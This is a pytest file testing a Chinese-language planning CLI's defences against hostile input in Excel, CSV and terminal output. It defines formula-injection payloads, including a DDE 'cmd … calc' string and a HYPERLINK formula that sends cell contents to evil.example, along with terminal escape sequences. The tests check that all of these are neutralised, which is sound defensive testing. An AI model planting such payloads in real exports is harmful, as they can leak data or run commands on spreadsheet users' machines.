"""Issue 14 (items 1, 2, 4 plan part, 5, 8, 10) and issue 15 §4 (CSV BOM, Chinese names): what a
hostile or careless user does to the outputs and to plans read back.

Each test states the attack, then what the user relies on: exact messages, exit codes, files
left alone, and the XML/CSV/terminal bytes a spreadsheet or terminal would act on.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import threading
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, event, given, settings, strategies as st
from test_rules import ROOMS, office, scenario

from cli.main import cli
from planner.analysis.generate import generate, write_scenario
from planner.io.loading import load_scenario
from planner.plan import read_plan, write_atomic
from planner.rules.requirements import derive
from planner.rules.verify import verify_plan
from planner.solver.params import SolveControl, SolveParams
from planner.solver.result import make_plan
from planner.solver.solve import solve

ROOT = Path(__file__).resolve().parents[1]
ROLLING = ROOT / "tests" / "cases" / "outputs" / "rolling.yaml"
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
FORMULA_NAMES = [DDE, LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
ROOM_COST = {"facilities": {"mediation_committee": {"one_time": 1.0}}}


@pytest.fixture(autouse=True)
def chinese(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLAN_LANG", "zh")


def run(*args: str) -> Any:
    return CliRunner().invoke(cli, [str(a) for a in args])


def write_yaml(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


# ---------------------------------------------------------------- item 1: formula injection


def hostile_scenario(tmp_path: Path) -> Path:
    """Offices named with formula payloads; each lacks a mediator and a room, so each has tasks."""
    rooms = [r for r in ROOMS if r != "mediation_committee"]
    offices = [office(id=f"X{i}" if i else LINK, name=name, county=DDE if i % 2 else "@甲县",
                      staff={"posts": 2, "mediators": 1}, facilities=rooms)
               for i, name in enumerate(FORMULA_NAMES)]
    sc = scenario(name=DDE, offices=offices, budget={2022: 5000})
    sc["costs"].update(ROOM_COST)
    return write_yaml(tmp_path / "hostile.yaml", sc)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    sc = hostile_scenario(tmp)
    res = run("solve", sc, "-o", tmp / "out", "--workers", "2", "--quiet", "--xlsx", tmp / "solve.xlsx")
    assert res.exit_code == 0, res.output
    return sc, tmp / "out" / "plan.json"


def sheet_xml(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]


def test_workbook_cells_with_formula_payloads_are_text(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    sc, plan = hostile
    res = run("export", plan, "--xlsx", tmp_path / "p.xlsx", "--scenario", sc)
    assert res.exit_code == 0, res.output
    for book in (tmp_path / "p.xlsx", plan.parent.parent / "solve.xlsx"):
        xml = sheet_xml(book)
        assert not any("<f>" in x or "<f " in x for x in xml)  # no formula anywhere
        wb = openpyxl.load_workbook(book)
        values = {c.value for ws in wb for row in ws.iter_rows() for c in row}
        assert {DDE, LINK, "-2+3", "@SUM(1+1)", "\t=1+1", "@甲县"} <= values  # shown exactly as typed
        task = next(r for r in wb["任务清单"].iter_rows() if r[2].value == DDE)
        assert task[2].data_type == "s" and task[2].quotePrefix  # stays text when edited in Excel


def test_csv_fields_with_formula_payloads_are_neutralised(hostile: tuple[Path, Path], tmp_path: Path) -> None:
    sc, plan = hostile
    assert run("export", plan, "--csv", tmp_path / "csv", "--scenario", sc).exit_code == 0
    raw = (tmp_path / "csv" / "任务清单.csv").read_bytes().decode("utf-8")  # no newline translation
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw[1:], newline="")))
    names = {r[4] for r in rows[1:-1]}  # the last row is 合计
    assert names == {"'" + n for n in FORMULA_NAMES}  # OWASP: a leading ' on = + - @ tab CR
    assert {r[3] for r in rows[1:-1]} >= {"'" + LINK, "X1"}
    assert "'" + DDE + "司法局 / " in {r[1][: len(DDE) + 7] for r in rows[1:-1]}  # 责任单位 starts with the county
    summary = list(csv.reader(io.StringIO((tmp_path / "csv" / "汇总.csv").read_text(encoding="utf-8")[1:])))
    assert summary[1] == ["情景", "'" + DDE]

    classify = run("classify", sc, "--csv")
    assert classify.exit_code == 0 and classify.stdout.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(classify.stdout[1:])))
    assert [r["name"] for r in rows] == ["'" + n for n in FORMULA_NAMES]
    assert rows[0]["id"] == "'" + LINK and rows[1]["county"] == "'" + DDE
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


def test_compare_csv_neutralises_and_has_a_bom(hostile: tuple[Path, Path], tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    sc, plan = hostile
    write_yaml(tmp_path / "=lean.yaml", {**yaml.safe_load(sc.read_text(encoding="utf-8")),
                                         "budget": {2022: 0}, "targets_mode": "soft"})
    monkeypatch.chdir(tmp_path)
    res = run("compare", plan, "=lean.yaml", "--workers", "2", "--csv")
    assert res.exit_code == 0, res.output
    assert res.stdout.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(res.stdout[1:])))
    assert rows[0] == ["section", "metric", "label", "year", str(plan), "'=lean.yaml"]
    attained = [r for r in rows if r[0] == "attained"]
    assert {r[2] for r in attained} == {"'" + n for n in FORMULA_NAMES}
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r)


def test_sweep_csv_has_a_bom(tmp_path: Path) -> None:
    sc = write_yaml(tmp_path / "s.yaml", scenario(offices=[office(staff={"posts": 2, "mediators": 1})],
                                                  budget={2022: 10}))
    res = run("sweep", sc, "--budget-scale", "0,1", "--workers", "1", "--no-chart", "--csv")
    assert res.exit_code == 0, res.output
    assert res.stdout.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(res.stdout[1:])))
    assert [(r["budget_scale"], r["shortfall"], r["cheapest_meeting_targets"]) for r in rows] == [
        ("0.0", "1", ""), ("1.0", "0", "yes")]


# ---------------------------------------------------------------- item 2: every status round-trips


def round_trip(loaded: Any, req: Any, outcome: Any, tmp_path: Path, name: str) -> None:
    plan = make_plan(loaded, req, outcome)
    path = tmp_path / f"{name}.json"
    write_atomic(path, plan.to_json())
    assert verify_plan(loaded, read_plan(path)) == []
    res = run("verify", loaded.file, path)
    assert res.exit_code == 0, res.output


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """300 offices, soft targets, tight budgets: 20 county components that take ~20 s of CPU to
    prove (docs/solver.md), so neither a second's limit nor a stop after 0.5 s lets every level be
    proven. (60 offices were enough until small components were searched by level: now a quiet
    machine proves them within the second.)"""
    path = tmp_path_factory.mktemp("big") / "g.yaml"
    write_scenario(generate(300, seed=1, tightness=0.8, soft=True), path)
    return path


def test_every_status_round_trips_through_verify(big: Path, tmp_path: Path) -> None:
    small = write_yaml(tmp_path / "small.yaml", scenario(offices=[office(staff={"posts": 2, "mediators": 1})]))
    loaded = load_scenario(small)
    req = derive(loaded)
    outcome = solve(req, SolveParams(workers=2, time_limit=30))
    assert outcome.status == "optimal"
    round_trip(loaded, req, outcome, tmp_path, "optimal")

    loaded = load_scenario(big)
    req = derive(loaded)
    timed = solve(req, SolveParams(workers=2, time_limit=1.0))
    assert timed.status == "feasible"
    assert any(s.bound is None for s in timed.stages)  # what `exclude_none` used to drop
    round_trip(loaded, req, timed, tmp_path, "time-limit")

    control = SolveControl()
    threading.Timer(0.5, control.stop).start()
    stopped = solve(req, SolveParams(workers=2, time_limit=60, control=control))
    assert control.stopped and stopped.status == "feasible"
    round_trip(loaded, req, stopped, tmp_path, "signal")


def test_soft_components_left_at_the_do_nothing_plan_round_trip(tmp_path: Path) -> None:
    from planner.solver.solve import _do_nothing  # the plan a soft component gets without a first solution

    loaded = load_scenario(write_yaml(tmp_path / "s.yaml", scenario(
        offices=[office(staff={"posts": 2, "mediators": 1})], targets_mode="soft")))
    req = derive(loaded)
    outcome = _do_nothing(req)
    assert [s.bound for s in outcome.stages] == [None, None, None]
    round_trip(loaded, req, outcome, tmp_path, "do-nothing")


def test_solve_cli_writes_a_plan_that_verifies(big: Path, tmp_path: Path) -> None:
    res = run("solve", big, "-o", tmp_path, "--time-limit", "1", "--workers", "2", "--quiet")
    assert res.exit_code == 0, res.output
    check = run("verify", big, tmp_path / "plan.json")
    assert check.exit_code == 0, check.output


# ---------------------------------------------------------------- item 4: plan file size


def test_a_huge_plan_file_is_refused_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLAN_LANG", "en")
    huge = tmp_path / "plan.json"
    with huge.open("wb") as f:
        f.write(b'{"format": "plan-result/1", "pad": "')
        f.truncate(129 * 2**20)  # sparse: 129 MiB on paper, nothing on disk
    sc = write_yaml(tmp_path / "s.yaml", scenario())
    for args in (["verify", sc, huge], ["export", huge, "--xlsx", tmp_path / "x.xlsx", "--scenario", sc],
                 ["report", huge, "-o", tmp_path / "r.html", "--scenario", sc],
                 ["advance", sc, huge, "--through", "2022", "-o", tmp_path / "n.yaml"],
                 ["compare", huge, sc]):
        res = run(*args)
        assert res.exit_code == 1, (args, res.output)
        assert f"{huge}: over 128 MiB, larger than any plan.json this planner writes (not read)" in res.output
        assert "Traceback" not in res.output
    assert not list(tmp_path.glob("[xrn].*"))


# ---------------------------------------------------------------- item 5: plans used without checking


@pytest.fixture(scope="module")
def rolling(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Any]]:
    out = tmp_path_factory.mktemp("rolling")
    assert run("solve", ROLLING, "-o", out, "--quiet", "--workers", "2").exit_code == 0
    return out / "plan.json", json.loads((out / "plan.json").read_text(encoding="utf-8"))


def edited(tmp_path: Path, plan: dict[str, Any], change: Any) -> Path:
    data = json.loads(json.dumps(plan))
    change(data)
    path = tmp_path / "edited.json"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def every_reader(plan: Path, tmp_path: Path) -> dict[str, Any]:
    return {"export": run("export", plan, "--xlsx", tmp_path / "e.xlsx", "--scenario", ROLLING),
            "report": run("report", plan, "-o", tmp_path / "r.html", "--scenario", ROLLING),
            "compare": run("compare", plan, plan),
            "advance": run("advance", ROLLING, plan, "--through", "2022", "-o", tmp_path / "n.yaml"),
            "verify": run("verify", ROLLING, plan),
            "explain": run("explain", ROLLING, "--plan", plan, "--no-marginal", "--workers", "2")}


@pytest.mark.parametrize(("change", "violation"), [
    (lambda p: p["objective"].update(total_cost=1.0), "objective.total_cost: states 1.0 万元, the actions cost"),
    (lambda p: p["actions"][0].update(one_time=0.0, annual=0.0), "costs stated as one_time 0.0 / annual 0.0 万元"),
    (lambda p: p["actions"].append({**p["actions"][0], "office": "NOPE"}), "unknown office 'NOPE'"),
    (lambda p: p["offices"][0].update(name="篡改镇"), "office P: name stated '篡改镇', the scenario has '甲镇'"),
    (lambda p: p["scenario"].update(name="篡改"), "scenario.name: stated '篡改', the scenario is named '滚动计划测试'"),
    (lambda p: p["solver"]["stages"][0].update(value=99.0),
     "solver.stages[0] (attained_office_years): states the value 99, the actions give 6"),
    (lambda p: p.update(actions=[]), "claims attained=True, but the actions give False"),
])
def test_every_reader_refuses_a_plan_that_fails(rolling: tuple[Path, dict[str, Any]], tmp_path: Path,
                                               change: Any, violation: str) -> None:
    path = edited(tmp_path, rolling[1], change)
    for command, res in every_reader(path, tmp_path).items():
        assert res.exit_code == 5, (command, res.output)
        assert violation in res.output, (command, res.output)
        assert "Traceback" not in res.output
    assert not list(tmp_path.glob("[ern].*"))


def test_a_nan_is_a_violation(rolling: tuple[Path, dict[str, Any]], tmp_path: Path) -> None:
    path = edited(tmp_path, rolling[1], lambda p: None)
    path.write_text(path.read_text(encoding="utf-8").replace('"total_cost": ', '"total_cost": NaN, "x": ', 1),
                    encoding="utf-8")
    res = run("verify", ROLLING, path)
    assert res.exit_code == 5 and f"{path}: objective.total_cost: Input should be a finite number" in res.output


def test_a_plan_of_another_scenario_version_needs_force(rolling: tuple[Path, dict[str, Any]],
                                                        tmp_path: Path) -> None:
    changed = tmp_path / "rolling.yaml"
    changed.write_text(ROLLING.read_text(encoding="utf-8") + "\n# a comment changes the sha256\n", encoding="utf-8")
    plan = rolling[0]
    refused = run("export", plan, "--xlsx", tmp_path / "p.xlsx", "--scenario", changed, "--lang", "zh")
    assert refused.exit_code == 5 and "违规 scenario.sha256: 方案求解自另一版本的情景文件" in refused.output
    assert "（确认无误可加 --force）" in refused.output and not (tmp_path / "p.xlsx").exists()
    assert run("verify", changed, plan).exit_code == 5

    forced = run("export", plan, "--xlsx", tmp_path / "p.xlsx", "--csv", tmp_path / "csv", "--scenario", changed,
                 "--force")
    assert forced.exit_code == 0, forced.output
    assert "按 --force 使用，输出标注“未核验”" in forced.output
    wb = openpyxl.load_workbook(tmp_path / "p.xlsx")
    for ws in wb:  # every sheet: its first row, and the header of every printed page
        assert ws["A1"].value.startswith("未核验：") and ws.oddHeader.center.text.startswith("未核验：")
    summary = {r[0]: r[1] for r in wb["汇总"].iter_rows(values_only=True)}
    assert summary["核验"].startswith("未核验：")
    for f in (tmp_path / "csv").glob("*.csv"):
        assert f.read_text(encoding="utf-8").startswith("\ufeff未核验：")
    assert run("report", plan, "-o", tmp_path / "r.html", "--scenario", changed, "--force").exit_code == 0
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert html.count('<p class="unverified">未核验：') == html.count("<section") + 1  # header + each section
    verified = run("report", plan, "-o", tmp_path / "ok.html", "--scenario", ROLLING)
    assert verified.exit_code == 0 and "未核验" not in (tmp_path / "ok.html").read_text(encoding="utf-8")
    compared = run("compare", plan, plan, "--force")  # the plan names ROLLING: verified, no label
    assert compared.exit_code == 0 and "未核验" not in compared.output


# ---------------------------------------------------------------- item 8: terminal injection


def test_markup_emoji_and_escape_sequences_are_printed_as_text(tmp_path: Path) -> None:
    names = ["[/]", "[red]红[/red]", ":x: 叉", "\x1b]0;pwned\x07标题", "\x1b[2J清屏"]
    offices = [office(id=f"O{i}", name=n, county="[bold]县" if i else "甲县") for i, n in enumerate(names)]
    sc = write_yaml(tmp_path / "s.yaml", scenario(offices=offices, name="\x1b[31m情景"))
    res = run("classify", sc)
    assert res.exit_code == 0, res.output
    assert "\x1b" not in res.stdout and "❌" not in res.stdout
    for shown in ("[/]", "[red]红[/red]", ":x: 叉", "\\x1b]0;pwned\\x07标题", "\\x1b[2J清屏", "[bold]县"):
        assert shown in res.stdout
    solved = run("solve", sc, "-o", tmp_path / "out", "--workers", "2")
    assert solved.exit_code == 0 and "\x1b" not in solved.output and "\\x1b[31m情景" in solved.output


# ---------------------------------------------------------------- item 10: outputs overwriting inputs


def test_outputs_never_replace_inputs_without_overwrite(rolling: tuple[Path, dict[str, Any]],
                                                        tmp_path: Path) -> None:
    sc = tmp_path / "s.yaml"
    sc.write_bytes(ROLLING.read_bytes())
    solved = run("solve", sc, "-o", tmp_path, "--quiet", "--workers", "2")
    assert solved.exit_code == 0
    plan = tmp_path / "plan.json"
    before = {p: p.read_bytes() for p in (sc, plan)}
    for args in (["advance", sc, plan, "--through", "2022", "-o", sc],
                 ["advance", sc, plan, "--through", "2022", "-o", tmp_path / "." / "s.yaml"],
                 ["report", plan, "-o", plan], ["export", plan, "--xlsx", plan],
                 ["export", plan, "--xlsx", sc], ["solve", sc, "--xlsx", sc, "-o", tmp_path / "o2"]):
        res = run(*args)
        assert res.exit_code == 2, (args, res.output)
        assert "会覆盖输入；换一个输出路径，或加 --overwrite" in res.output
    assert before == {p: p.read_bytes() for p in (sc, plan)}
    forced = run("advance", sc, plan, "--through", "2022", "-o", sc, "--overwrite")
    assert forced.exit_code == 0 and sc.read_text(encoding="utf-8").startswith("# Rolled on by `plan advance`")


# ---------------------------------------------------------------- issue 15 §4: Chinese names


def test_roles_rooms_and_options_by_their_chinese_names(tmp_path: Path) -> None:
    rooms = [r for r in ROOMS if r != "mediation_committee"]
    base = office(staff={"posts": 2, "mediators": 1}, facilities=rooms, floor_area_m2=100,
                  housing_options=[{"id": "annex-lease", "name": "东侧附楼租赁", "area_m2": 120, "one_time": 1.0}])
    sc = write_yaml(tmp_path / "s.yaml", scenario(offices=[base], costs={**scenario()["costs"], **ROOM_COST}))
    assert run("solve", sc, "-o", tmp_path / "out", "--quiet", "--workers", "2").exit_code == 0
    plan = tmp_path / "out" / "plan.json"
    assert run("export", plan, "--xlsx", tmp_path / "p.xlsx", "--scenario", sc).exit_code == 0
    tasks = [r[6:8] for r in openpyxl.load_workbook(tmp_path / "p.xlsx")["任务清单"].iter_rows(values_only=True)]
    assert sorted(tasks[1:-1]) == [("功能室", "人民调解委员会"), ("招录/聘用", "专职人民调解员"),
                                   ("用房方案", "东侧附楼租赁")]

    empty = write_yaml(tmp_path / "e.yaml", scenario(offices=[base], budget={2022: 0}, targets_mode="soft",
                                                     costs={**scenario()["costs"], **ROOM_COST}))
    res = run("compare", sc, empty, "--workers", "2")
    assert res.exit_code == 0, res.output
    for line in ("2022 招录/聘用 专职人民调解员 ×1", "2022 用房方案 东侧附楼租赁 120 m²", "2022 功能室 人民调解委员会"):
        assert line in res.stdout
    assert not re.search(r"\b(mediators|annex-lease|mediation_committee)\b", res.stdout)
    data = json.loads(run("compare", sc, empty, "--workers", "2", "--json").stdout)
    assert "2022 hire mediators ×1" in data["differences"][0]["offices"][0]["actions_only_in_base"]  # ids for machines


def test_explain_names_a_housing_option_by_its_name(tmp_path: Path) -> None:
    base = office(floor_area_m2=100, housing_options=[{"id": "annex-lease", "name": "东侧附楼租赁", "area_m2": 120,
                                                        "one_time": 1.0}])
    sc = write_yaml(tmp_path / "s.yaml", scenario(offices=[base]))
    res = run("explain", sc, "--office", "A", "--workers", "2")
    assert res.exit_code == 0, res.output
    assert "2022 用房方案 东侧附楼租赁（120 m²）" in res.stdout and "annex-lease" not in res.stdout


# ---------------------------------------------------------------- fuzz: hostile names through every writer

HOSTILE_START = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "[red]", "[/]", ":x:", "\x1b]0;", "\x1b[2J",
                                 "\u202e", "", "'", "\x00", "\x7f"])
HOSTILE_TEXT = st.builds(lambda head, tail: head + tail, HOSTILE_START,
                         st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12))


@settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", "60")), deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(names=st.lists(HOSTILE_TEXT, min_size=3, max_size=3))
def test_fuzzed_hostile_names_stay_text_in_every_output(names: list[str], tmp_path_factory: Any) -> None:
    """Office name, id and county from the strategy: the workbook has no formula, no CSV field
    starts a formula, the terminal gets no control character, markup or emoji."""
    from planner.errors import ScenarioError
    from planner.reports.tables import build_tables
    from planner.reports.xlsx import write_csv, write_xlsx
    from planner.solver.solve import _do_nothing

    name, oid, county = names
    folder = tmp_path_factory.mktemp("fuzz")
    data = scenario(name=name or "x", offices=[office(id=oid or "x", name=name or "x", county=county or "x")],
                    targets_mode="soft")
    try:
        loaded = load_scenario(write_yaml(folder / "s.yaml", data))
    except ScenarioError:
        event("refused as input")
        return  # refused as input: nothing is written
    plan = make_plan(loaded, derive(loaded), _do_nothing(derive(loaded)))
    tables = build_tables(plan, loaded)
    write_xlsx(tables, folder / "p.xlsx")
    assert not any("<f>" in x or "<f " in x for x in sheet_xml(folder / "p.xlsx"))
    for path in write_csv(tables, folder / "csv"):
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8")[1:], newline="")):
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)
    shown = run("classify", folder / "s.yaml")
    assert shown.exit_code == 0, shown.output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", shown.stdout) and "❌" not in shown.stdout


def test_control_characters_are_shown_escaped_in_the_workbook(tmp_path: Path) -> None:
    """Excel rejects control characters in a cell: each is shown as its escape (`\\x1b`), the rest
    of the name as typed, in the workbook `plan solve --xlsx` and `plan export` write."""
    from planner.reports.tables import build_tables
    from planner.reports.xlsx import write_xlsx
    from planner.solver.solve import _do_nothing

    names = ["\x1b]0;pwned\x07标题", "甲\x1b[2J所\x0b"]
    data = scenario(name="情景\x1b[31m", targets_mode="soft",
                    offices=[office(id=f"T{i}", name=n) for i, n in enumerate(names)])
    loaded = load_scenario(write_yaml(tmp_path / "s.yaml", data))
    plan = make_plan(loaded, derive(loaded), _do_nothing(derive(loaded)))
    write_xlsx(build_tables(plan, loaded), tmp_path / "p.xlsx")
    values = {c.value for ws in openpyxl.load_workbook(tmp_path / "p.xlsx") for row in ws.iter_rows() for c in row}
    assert {"\\x1b]0;pwned\\x07标题", "甲\\x1b[2J所\\x0b", "情景\\x1b[31m"} <= values
    assert not any(isinstance(v, str) and re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", v) for v in values)


def test_a_scenario_name_in_mathtext_is_drawn_as_text(tmp_path: Path) -> None:
    """The sweep chart's title is the scenario's name: `$\\frac$` used to crash matplotlib's mathtext."""
    sc = write_yaml(tmp_path / "s.yaml", scenario(name="$\\frac$ 预算", offices=[office()], budget={2022: 10}))
    res = run("sweep", sc, "--budget-scale", "1", "--workers", "1", "--chart", tmp_path / "chart")
    assert res.exit_code == 0, res.output
    assert (tmp_path / "chart.png").stat().st_size > 0 and "$\\frac$ 预算" in (tmp_path / "chart.svg").read_text()
